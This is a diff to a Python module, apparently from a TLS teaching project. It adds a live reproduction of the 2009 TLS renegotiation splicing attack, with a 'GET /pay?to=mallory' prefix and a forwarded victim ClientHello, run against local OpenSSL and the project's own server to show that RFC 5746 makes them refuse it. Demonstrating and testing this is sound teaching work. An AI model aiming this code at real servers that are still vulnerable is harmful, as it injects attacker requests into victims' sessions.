@@ -35,13 +35,18 @@ import time
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
-from ..errors import HandshakeError
+from ..errors import HandshakeError, PeerAlert, TLSAlert
 from ..net.tls import Timing, TLSPageServer, TLSResponse, open_tls, tls_get
 from ..pki.builder import CoursePKI, ServerFiles
 from ..tls.captured import CLIENT_TO_SERVER, SERVER_TO_CLIENT, ProtectedRecord
-from ..tls.connection import HandshakeComplete, TranscriptEntry
-from ..tls.constants import ContentType
+from ..tls.client import TLSClient
+from ..tls.connection import AlertReceived, HandshakeComplete, TranscriptEntry
+from ..tls.constants import ContentType, ProtocolVersion
+from ..tls.extensions import RenegotiationInfoExtension
+from ..tls.messages import Finished, decode_handshake
+from ..tls.record import RECORD_HEADER_LENGTH, RecordProtection
 from ..tls.sessions import ClientSessionStore
 from ..tls.suites import suite_params
 from ..tls.tickets import TicketKeys
@@ -64,6 +69,11 @@ __all__ = [
     "records_under_keys",
     "handshake_time",
     "round_trips",
+    "ATTACK_PREFIX",
+    "SpliceOutcome",
+    "splice_victim_hello",
+    "splice_against_openssl",
+    "splice_against_our_server",
 ]
 
 # OpenSSL 3.0 refuses a client's renegotiation unless the server sets SSL_OP_ALLOW_CLIENT_RENEGOTIATION
@@ -417,3 +427,130 @@ def renegotiate_with_openssl(*, allow: bool = True, ciphers: str = RESUMPTION_CI
                 pages.append(_get(stream, "/after"))
             handshakes = list(stream.client.handshakes)
             return RenegotiationRun(list(stream.transcript), list(stream.timings), handshakes, pages, refused)
+
+
+# -- the 2009 attack, live: a victim's ClientHello spliced into the attacker's connection -----------------
+ATTACK_PREFIX = b"GET /pay?to=mallory HTTP/1.1\r\nX-Ignore: "
+
+
+@dataclass
+class SpliceOutcome:
+    """What a server did when an attacker forwarded a victim's ClientHello inside his own connection."""
+
+    target: str
+    attacker_finished: bytes  # the verify_data RFC 5746 makes the server expect in renegotiation_info
+    victim_renegotiation_info: bytes | None  # what the victim's hello carried (empty: "my first handshake")
+    alert: str  # the alert the server answered with ("" if none)
+    fatal: bool = False  # a fatal alert ends the connection; a warning (no_renegotiation) leaves it open
+    server_error: str = ""  # the server's own account (OpenSSL's reason), if it gave one
+
+    def summary(self) -> str:
+        carried = self.victim_renegotiation_info
+        shown = "none" if carried is None else (carried.hex() or "empty")
+        return "\n".join(
+            [
+                f"{self.target}: the attacker's connection is up and his prefix {ATTACK_PREFIX!r} was sent",
+                f"the server now expects renegotiation_info = the attacker's client verify_data "
+                f"{self.attacker_finished.hex()}",
+                f"the victim's ClientHello (forwarded, encrypted under the attacker's keys) carries: {shown}",
+                f"the server answered: {self.alert or 'nothing'}"
+                + (" (fatal: the connection is over)" if self.fatal else " (a warning: the connection goes on)")
+                + (f"; its own reason: {self.server_error}" if self.server_error else ""),
+            ]
+        )
+
+
+def _client_verify_data(transcript: Sequence[TranscriptEntry]) -> bytes:
+    finished = [m for e in transcript if e.direction == CLIENT_TO_SERVER for m in e.messages if isinstance(m, Finished)]
+    return finished[-1].verify_data if finished else b""
+
+
+def splice_victim_hello(
+    host: str, port: int, cafile: Path, server_name: str = "localhost", *, timeout: float = 5.0
+) -> SpliceOutcome:
+    """The 2009 renegotiation attack against the server at ``host:port``, as far as RFC 5746 lets it go.
+
+    The attacker (our client) completes his own handshake and sends his request prefix; a victim (a fresh
+    client core, never connected) makes its first ClientHello, and the attacker sends that hello to the
+    server as a handshake record protected with *his* connection's keys: a renegotiation, for the server.
+    A server that follows RFC 5746 finds the victim's empty renegotiation_info where the attacker's
+    Finished should be, and aborts (handshake_failure); one that refuses client renegotiation altogether
+    answers no_renegotiation.
+    """
+    victim = TLSClient(server_name, cafile=cafile)
+    victim.start()
+    victim_records = victim.data_to_send()
+    hello_fragment = victim_records[RECORD_HEADER_LENGTH:]  # one record: the victim's ClientHello
+    hello, _spans = decode_handshake(hello_fragment)
+    info = next((e for e in hello.extensions if isinstance(e, RenegotiationInfoExtension)), None)
+    stream = open_tls(host, port, server_name, cafile=cafile)
+    try:
+        stream.send(ATTACK_PREFIX)
+        handshake = stream.handshake
+        assert handshake.key_block is not None
+        sent = sum(1 for e in stream.transcript if e.direction == CLIENT_TO_SERVER and e.encrypted)
+        protection = RecordProtection.client_write(
+            handshake.key_block,
+            suite_params(handshake.cipher_suite),
+            sequence_number=sent,
+            encrypt_then_mac=handshake.encrypt_then_mac,
+        )
+        stream.sock.sendall(protection.protect(ContentType.handshake, ProtocolVersion.TLS1_2, hello_fragment))
+        alert, fatal = _first_alert(stream.client, stream.sock, time.monotonic() + timeout)
+        attacker_finished = _client_verify_data(stream.transcript)
+    finally:
+        # Not stream.close(): its close_notify would carry a sequence number our spliced record already used.
+        stream.sock.close()
+    carried = None if info is None else info.renegotiated_connection
+    return SpliceOutcome(f"{host}:{port}", attacker_finished, carried, alert, fatal)
+
+
+def _first_alert(client: TLSClient, sock: Any, deadline: float) -> tuple[str, bool]:
+    """Read the server's answer into the attacker's core until an alert comes: (its name, fatal?)."""
+    while (remaining := deadline - time.monotonic()) > 0:
+        sock.settimeout(remaining)
+        try:
+            data = sock.recv(65536)
+        except TimeoutError:
+            break
+        try:
+            events = client.receive_data(data)
+        except PeerAlert as error:
+            return TLSAlert(error.description).name, True
+        for event in events:
+            if isinstance(event, AlertReceived) and event.description != TLSAlert.close_notify:
+                return TLSAlert(event.description).name, False
+        if not data:
+            break
+    return "", False
+
+
+def splice_against_openssl(*, allow_client_renegotiation: bool = True) -> SpliceOutcome:
+    """:func:`splice_victim_hello` against OpenSSL (which must refuse it), with OpenSSL's own reason."""
+    with openssl_resumption_server(allow_client_renegotiation=allow_client_renegotiation) as server:
+        outcome = splice_victim_hello("127.0.0.1", server.server.port, server.cafile)
+        outcome.target = "OpenSSL" + ("" if allow_client_renegotiation else " (its defaults)")
+        if outcome.fatal:
+            outcome.server_error = server.server.error_of(len(server.server.connections) - 1)
+    return outcome
+
+
+def splice_against_our_server(files: ServerFiles | None = None, **server_options: Any) -> SpliceOutcome:
+    """:func:`splice_victim_hello` against our own server (``TLSPageServer``; ``server_options`` go to it)."""
+    with contextlib.ExitStack() as stack:
+        if files is None:
+            folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="handshakes-splice-")))
+            files = CoursePKI.create().write_server_files(folder, ("localhost", "127.0.0.1"))
+        issued = files.issued
+        server = stack.enter_context(
+            TLSPageServer([issued.certificate], issued.private_key, **server_options)
+        )
+        outcome = splice_victim_hello("127.0.0.1", server.port, files.ca_path)
+        outcome.target = "our server"
+        if outcome.fatal:
+            deadline = time.monotonic() + 1.0
+            while not (server.connections and server.connections[-1].error) and time.monotonic() < deadline:
+                time.sleep(0.005)  # the server's thread records the error just after sending its alert
+            if server.connections and server.connections[-1].error:
+                outcome.server_error = str(server.connections[-1].error)
+    return outcome
